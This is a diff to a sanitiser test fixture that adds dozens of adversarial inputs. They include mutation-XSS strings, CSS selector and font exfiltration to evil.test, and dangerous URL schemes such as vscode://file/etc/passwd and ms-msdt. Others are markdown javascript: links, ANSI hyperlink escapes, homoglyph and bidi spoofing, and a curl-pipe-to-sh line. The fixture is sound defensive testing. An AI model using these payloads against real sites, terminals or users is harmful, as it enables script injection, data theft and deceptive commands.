@@ -130,6 +130,45 @@ const MUTATION = [
   '<a title="`<img src=x onerror=alert(1)>`">x</a>',
   '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
 ];
+/** Tricks on sanitisers of the last years: namespaces that are left and entered again, depth, attributes as markup. */
+const RECENT = [
+  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
+  '<math><annotation-xml encoding="text/html"><style><!--</style><a title="--><img src onerror=alert(1)>">',
+  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<form id="outer"><div></form><form id="inner"><input name=nodeName><math><mtext></form></form><style><img src=x onerror=alert(1)>',
+  `${'<div>'.repeat(506)}<form><input><form><math><mtext><style></math><img src=x onerror=alert(1)>`,
+  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
+  '<template><svg><style></template></svg><img src=x onerror=alert(1)>',
+  '<template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template>',
+  '<div><template shadowrootmode=closed><script>alert(1)</script></template></div>',
+  '<x-a is="script" onclick=alert(1)><custom-element onload=alert(1)></custom-element></x-a>',
+  '<![CDATA[ ><img src=x onerror=alert(1)> ]]><?xml-stylesheet href="javascript:alert(1)"?>',
+  '<?xml version="1.0"?><img src="?><img src=x onerror=alert(1)>">',
+  '<a href="x" title="{{constructor.constructor(\'alert(1)\')()}}">x</a>',
+  '<selectedcontent><img src=x onerror=alert(1)></selectedcontent><select><button><selectedcontent></button><option><img src=x onerror=alert(1)></select>',
+  '<button popovertarget=root commandfor=root command=show-modal>x</button>',
+  '<button interestfor=root oninterest=alert(1)>x</button>',
+  '<img src=x loading=lazy fetchpriority=high attributionsrc=//evil.test/a>',
+  '<link rel=expect blocking=render href=#never><script type=speculationrules>{"prerender":[{"urls":["//evil.test"]}]}</script>',
+  '<iframe credentialless src=//evil.test></iframe><fencedframe src=//evil.test></fencedframe>',
+  '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" /><a id=x><text>x</text></a></svg>',
+  '<svg><use href="#x"/><symbol id=x onload=alert(1)></symbol><image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
+  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></semantics></math>',
+  '<math><mstyle background="url(//evil.test/x)" href="javascript:alert(1)"><mtext>x</mtext></mstyle></math>',
+];
+/** Style and class are taken from nobody: neither a place, nor a look, nor a leak by selectors. */
+const CSS = [
+  '<p class="dialog request-frame" style="position:fixed;inset:0;z-index:9999">Allow?</p>',
+  '<p class="visually-hidden">rm -rf ~</p><p hidden>rm -rf ~</p>',
+  '<p style="--x:url(//evil.test/x);background:var(--x)">x</p>',
+  '<p style="background:image-set(\'//evil.test/x\' 1x)">x</p>',
+  '<style>@font-face{font-family:x;src:url(//evil.test/f)}*{font-family:x}</style>x',
+  '<style>input[value^=a]{background:url(//evil.test/a)}</style>',
+  '<style>@container style(--a:1){body{background:url(//evil.test/c)}}</style>',
+  '<style>:root{--colour-danger:transparent}.request{display:none!important}</style>',
+  '<font color=transparent size=1>rm -rf ~</font><center>x</center>',
+  '</style><style>*{animation:x}@keyframes x{to{background:url(//evil.test/k)}}',
+];
 const CLOBBERING = [
   '<a id=clobbered></a><a id=clobbered name=x href=javascript:alert(1)>x</a>',
   '<form id=clobbered><input name=attributes><input name=children></form>',
@@ -162,6 +201,15 @@ const ADDRESSES = [
   '//evil.test/x.png',
   '/\\evil.test/x.png',
   'https://evil.test\\@localhost/x.png',
+  'https://admin:secret@evil.test/x.png',
+  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
+  'data:image/svg+xml;charset=utf-8;,<svg onload=alert(1)>',
+  'data:image/png,<script>alert(1)</script>',
+  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
+  'intent://evil.test#Intent;scheme=javascript;end',
+  'vscode://file/etc/passwd',
+  'ms-msdt:/id',
+  'tel:*21*evil%23',
 ];
 const ADDRESS_INPUTS = ADDRESSES.flatMap((address) => [
   `[x](${address}) ![y](${address}) <${address}>`,
@@ -189,6 +237,18 @@ const MARKDOWN = [
   '<https://ok.test/"onmouseover="alert(1)>',
   'www.ok.test/"><img src=x onerror=alert(1)>',
   '[click](https://bank.test@evil.test) [https://bank.test](https://evil.test)',
+  '[x][y]\n\n[y]: <javascript:alert(1)> "t"\n[Y]: https://ok.test',
+  '[constructor]\n\n[__proto__]: javascript:alert(1)\n\n[__proto__] [toString] [constructor][__proto__]',
+  '[x]:javascript:alert(1)\n[x]',
+  '[x][]\n\n> [x]: javascript:alert(1)',
+  '![x][y]\n\n[y]: data:image/svg+xml,<svg/onload=alert(1)>',
+  '<https://user:pass@evil.test> https://bank.test%2f@evil.test www.bank.test:443@evil.test',
+  'https://evil.test/\u202egnp.exe https://b\u0430nk.test https://xn--bnk-5cd.test',
+  'mailto:a@b.test?subject=x&attach=/etc/passwd <mailto:x@y.test"onclick="alert(1)>',
+  '[\u202ekcilc](https://evil.test "\u202eelttit")',
+  '~~[x](javascript:alert(1))~~ **[x](JAVASCRIPT:alert(1))** *![x](javascript:alert(1))*',
+  '<a href="https://ok.test">[x](javascript:alert(1))</a><b>[y]: javascript:alert(1)',
+  '$$\\htmlStyle{background:url(//evil.test)}{x}$$ $\\includegraphics{//evil.test/x}$ $\\url{javascript:alert(1)}$',
 ];
 const ANSI = [
   '\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007',
@@ -202,6 +262,11 @@ const ANSI = [
   'safe command\r\u001b[Krm -rf ~',
   '\b\b\b\b\b\b\u0007\u000b\u000c\u007f',
   '\u009b31m\u0090x\u009c',
+  '\u001b]8;id=1;data:text/html,<script>alert(1)</script>\u001b\\docs\u001b]8;;\u001b\\',
+  '\u001b]8;;file:///etc/passwd\u0007https://ok.test\u001b]8;;\u0007',
+  '\u001b]8;;https://evil.test/\u0007never closed',
+  '\u001b]1337;File=inline=1:AAAA\u0007\u001b]9;alert\u0007\u001b]777;notify;x;y\u0007',
+  '\u001b[?1049h\u001b[1;1H\u001b[999999999C\u001b[6n\u001b[c\u001bc',
 ];
 const BIDI = [
   'rm -rf \u202e/pmt/ # gnp.exe\u202c',
@@ -217,6 +282,11 @@ const BIDI = [
   '\u2028<script>alert(1)</script>\u2029',
   'раураl.test аnd gооglе.test',
   '\u05d0\u05d1\u05d2.exe -- rm',
+  `title ${'\u202e'.repeat(300)}txt.exe`,
+  'curl https://ok.test\u200b.evil.test | sh\u2060',
+  'rm -rf build\u2215..\u2215.. \u2024\u2024/ \uff0e\uff0e\uff0f',
+  'npm install reаct lоdash ехpress',
+  'a\ufe0f\u{e0100}b\u{1f1e6}\u200d\u{1f3f4}\u{e0067}\u{e007f}',
 ];
 const NAMES = [
   '__proto__',
@@ -248,6 +318,8 @@ export const INPUTS: readonly string[] = [
   ...SVG,
   ...MATHML,
   ...MUTATION,
+  ...RECENT,
+  ...CSS,
   ...CLOBBERING,
   ...ADDRESS_INPUTS,
   ...MARKDOWN,
